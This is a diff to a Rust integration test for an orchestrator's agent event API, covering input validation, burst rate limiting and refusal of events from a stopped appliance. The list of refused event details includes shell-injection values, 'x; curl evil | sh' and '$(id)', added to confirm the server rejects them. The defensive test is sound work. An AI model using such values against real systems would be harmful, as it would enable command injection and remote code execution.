@@ -1115,8 +1115,15 @@ async fn custom_events_posted_through_the_agent_fire_their_rules_and_are_bounded
     );
 
     // bad names and details are refused with the server's words; nothing is recorded
-    for (name, detail) in [("Deployed", "x".to_owned()), ("ok", "y".repeat(5000))] {
-        match emit(&app, &token, name, &detail).await {
+    // (a detail reaches scripts through {{ event.detail }}: nothing a shell acts on gets in)
+    let refused = [
+        ("Deployed", "x".to_owned()),
+        ("ok", "y".repeat(5000)),
+        ("ok", "x; curl evil | sh".to_owned()),
+        ("ok", "$(id)".to_owned()),
+    ];
+    for (name, detail) in &refused {
+        match emit(&app, &token, name, detail).await {
             Err(EmitError::Invalid(words)) => {
                 assert!(
                     words.contains("name") || words.contains("detail"),
@@ -1132,7 +1139,8 @@ async fn custom_events_posted_through_the_agent_fire_their_rules_and_are_bounded
         emit(&app, &stranger, "deployed", "").await,
         Err(EmitError::Failed(_))
     ));
-    // a burst, then the appliance waits (its heartbeats are not counted against it)
+    // a burst (the refused ones count too), then the appliance waits
+    let burst = orchestrator::agent_api::EVENT_BURST as usize;
     let mut recorded = 1;
     let limited = loop {
         match emit(&app, &token, "tick", "").await {
@@ -1140,10 +1148,18 @@ async fn custom_events_posted_through_the_agent_fire_their_rules_and_are_bounded
             Err(EmitError::TooMany(after)) => break after,
             Err(e) => panic!("{e:?}"),
         }
-        assert!(recorded <= orchestrator::agent_api::EVENT_BURST, "no limit");
+        assert!(recorded + refused.len() <= burst, "no limit");
     };
-    assert_eq!(recorded, orchestrator::agent_api::EVENT_BURST);
+    assert_eq!(recorded + refused.len(), burst);
     assert!(limited.is_some_and(|s| (1..=6).contains(&s)), "{limited:?}");
+    // a script posting in a loop spends none of the calls its agent's heartbeats and jobs need (30
+    // in a burst): after 40 refused events the agent is still answered
+    for _ in 0..40 {
+        assert!(matches!(
+            emit(&app, &token, "tick", "").await,
+            Err(EmitError::TooMany(_))
+        ));
+    }
     app.raw(
         app.client
             .get(app.url("/agent/v1/jobs"))
@@ -1165,10 +1181,36 @@ async fn custom_events_posted_through_the_agent_fire_their_rules_and_are_bounded
         .map(str::to_owned)
         .collect();
     let ticks = customs.iter().filter(|t| *t == "custom.tick").count();
-    assert_eq!(ticks + 1, recorded as usize, "{customs:?}");
+    assert_eq!(ticks + 1, recorded, "{customs:?}");
     assert_eq!(
         customs.len(),
-        recorded as usize,
+        recorded,
         "refused ones left no trace: {customs:?}"
     );
+}
+
+#[tokio::test]
+async fn an_appliance_that_is_not_up_posts_no_events() {
+    use agent::client::EmitError;
+    let app = TestApp::spawn().await;
+    let (s, _a, _script, appliance) = world(&app, "custom-not-up").await;
+    let token = app.state.agent.key.issue(appliance.parse().unwrap());
+    app.post(
+        &s.token,
+        &format!("/api/v1/appliances/{appliance}/stop"),
+        json!({}),
+    )
+    .await
+    .assert_status(202);
+    app.eventually(20, "the appliance stops", || async {
+        let r = app
+            .get(&s.token, &format!("/api/v1/appliances/{appliance}"))
+            .await;
+        matches!(r.body["state"].as_str(), Some("stopping" | "stopped")).then_some(())
+    })
+    .await;
+    match emit(&app, &token, "deployed", "").await {
+        Err(EmitError::Failed(why)) => assert!(why.contains("409"), "{why}"),
+        other => panic!("{other:?}"),
+    }
 }
